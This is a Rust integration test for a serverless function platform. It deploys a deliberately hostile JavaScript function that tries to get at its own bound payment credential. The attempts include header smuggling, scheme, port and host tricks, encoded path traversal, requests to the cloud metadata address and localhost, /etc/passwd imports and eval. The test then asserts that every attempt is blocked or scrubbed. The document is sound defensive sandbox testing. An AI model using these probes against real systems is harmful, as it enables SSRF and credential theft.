//! A function that tries to read its own secret in clear, with the real programs.

#![allow(clippy::unwrap_used, reason = "a panic is how a test fails")]

use std::time::{Duration, Instant};

use casemate_tests::caller;
use casemate_tests::fleet::{Fleet, SOON, UPSTREAM_HOST, UPSTREAM_KEY};
use casemate_tests::upstream::Upstream;
use tokio::task::block_in_place;

/// The function tries each way to the secret, and answers with everything that it has learned.
const HOSTILE: &str = r#"
const outside = ["file:///etc/passwd", "../../etc/passwd"];
const tries = {
  placement: (env) => env.payments.fetch("/v1/a", { method: "POST", headers: [["Authorization", "mine"], ["AUTHORIZATION", "mine too"]] }),
  connection: (env) => env.payments.fetch("/v1/b", { method: "POST", headers: { connection: "authorization", te: "trailers" } }),
  elsewhere: (env) => env.payments.fetch("https://elsewhere.test/v1/a", { method: "POST" }),
  clear: (env, base) => env.payments.fetch(base.replace("https:", "http:") + "/v1/a", { method: "POST" }),
  dot: (env, base) => env.payments.fetch(base.replace(".test:", ".test.:") + "/v1/a", { method: "POST" }),
  user: (env, base) => env.payments.fetch(base.replace("https://", "https://me@") + "/v1/a", { method: "POST" }),
  port: (env) => env.payments.fetch("https://payments.demo.test:1/v1/a", { method: "POST" }),
  method: (env) => env.payments.fetch("/v1/a", { method: "DELETE" }),
  path: (env) => env.payments.fetch("/admin", { method: "POST" }),
  encoded: (env) => env.payments.fetch("/v1/%2e%2e/admin", { method: "POST" }),
  slashes: (env) => env.payments.fetch("/v1//admin", { method: "POST" }),
  plain: (_, base) => fetch(base + "/v1/a", { method: "POST" }),
  metadata: () => fetch("http://169.254.169.254/latest/meta-data/"),
  local: () => fetch("http://localhost/"),
  redirect: (env) => env.payments.fetch("/v1/leak", { method: "POST" }),
  manual: (env) => env.payments.fetch("/v1/leak", { method: "POST", redirect: "manual" }),
  echo: (env) => env.payments.fetch("/v1/echo", { method: "POST", body: "mirror, mirror" }),
  binding: (env) => env.payments.fetch.call({ name: "OTHER" }, "/v1/a", { method: "POST" }),
  code: () => new Function("return 1")(),
  evil: () => (0, eval)("1"),
  env: (env) => JSON.stringify(Object.getOwnPropertyDescriptors(env)) + JSON.stringify(Reflect.ownKeys(env.payments)),
  globals: () => [typeof Deno, typeof process, typeof SharedArrayBuffer, typeof __bootstrap].join(),
  file: () => import(outside[0]),
  parent: () => import(outside[1]),
};
async function one(name, env, base) {
  try {
    const answer = await tries[name](env, base);
    if (!(answer instanceof Response)) return String(answer);
    return JSON.stringify([answer.status, [...answer.headers], await answer.text()]);
  } catch (error) {
    return `${error.name} ${error.code} ${error.message} ${error.stack}`;
  }
}
export default {
  async fetch(request, env) {
    const name = new URL(request.url).pathname.slice(1);
    console.log("trying", name, env);
    return new Response(await one(name, env, env.BASE));
  },
};
"#;

/// For each attempt, text that the answer must contain.
const OUTCOMES: &[(&str, &str)] = &[
    ("placement", "\"ok\\\":true"),
    ("connection", "\"ok\\\":true"),
    ("elsewhere", "egress_denied"),
    ("clear", "egress_denied"),
    ("dot", "call_invalid"),
    ("user", ""),
    ("port", "egress_denied"),
    ("method", "egress_denied"),
    ("path", "egress_denied"),
    ("encoded", "egress_denied"),
    ("slashes", "egress_denied"),
    ("plain", "egress_denied"),
    ("metadata", "egress_denied"),
    ("local", "egress_denied"),
    ("redirect", ""),
    ("manual", "[scrubbed]"),
    ("echo", "Bearer [scrubbed]"),
    ("binding", ""),
    ("code", "EvalError"),
    ("evil", "EvalError"),
    ("env", "BASE"),
    ("globals", "undefined,undefined,undefined,undefined"),
    ("file", "Error"),
    ("parent", "Error"),
];

#[tokio::test(flavor = "multi_thread")]
async fn a_function_cannot_get_at_its_own_secret() {
    let upstream = Upstream::start(UPSTREAM_HOST, UPSTREAM_KEY).await.unwrap();
    let fleet = block_in_place(Fleet::start).unwrap();
    let port = upstream.address.port();
    let config = format!(
        "[limits]\ncpu_time_ms = 1000\n[vars]\nBASE = \"https://{UPSTREAM_HOST}:{port}\"\n[[credential]]\nbinding = \"payments\"\n\
         secret = \"PAYMENTS_KEY\"\nhost = \"{UPSTREAM_HOST}:{port}\"\nmethods = [\"POST\"]\npaths = [\"/v1/*\"]\n\
         slot = \"bearer\"\nca = \"ca.pem\"\n"
    );
    let project = fleet.small_project("hostile", &config, HOSTILE).unwrap();
    std::fs::write(project.join("ca.pem"), &upstream.ca_pem).unwrap();
    // The upstream returns every request's content, so the secret permits reflection.
    let options = ["--reflection", "scrub"];
    block_in_place(|| fleet.put_secret_with(&project, &options)).unwrap();
    block_in_place(|| fleet.deploy(&project)).unwrap();

    let end = Instant::now() + SOON;
    while caller::get(fleet.node.gateway, "hostile.apps.demo.test", "/globals")
        .await
        .unwrap()
        .status
        != 200
    {
        assert!(
            Instant::now() < end,
            "the function does not answer:\n{}",
            fleet.node.log()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    for (name, outcome) in OUTCOMES {
        let answer = caller::get(
            fleet.node.gateway,
            "hostile.apps.demo.test",
            &format!("/{name}"),
        )
        .await
        .unwrap();
        let text = answer.text();
        assert_eq!(answer.status, 200, "{name}: {text}");
        assert!(
            text.contains(outcome),
            "{name}: expected {outcome} in {text}"
        );
        assert!(!text.contains(UPSTREAM_KEY), "{name}: {text}");
    }
    // Every request that reached the upstream carries the vault's key in the declared header, and
    // no value of the function's there.
    let seen = upstream.seen();
    assert!(!seen.is_empty());
    for seen in seen {
        let authorizations: Vec<_> = seen
            .headers
            .iter()
            .filter(|(name, _)| name == "authorization")
            .collect();
        assert_eq!(authorizations.len(), 1, "{seen:?}");
        assert_eq!(authorizations[0].1, format!("Bearer {UPSTREAM_KEY}"));
        assert!(
            seen.target.starts_with("/v1/") && seen.method == "POST",
            "{seen:?}"
        );
    }
    let logs =
        block_in_place(|| fleet.tenant.ok(&project, &["logs", "--last", "500"], b"")).unwrap();
    assert!(logs.contains("trying"), "{logs}");
    assert!(!logs.contains(UPSTREAM_KEY));
}
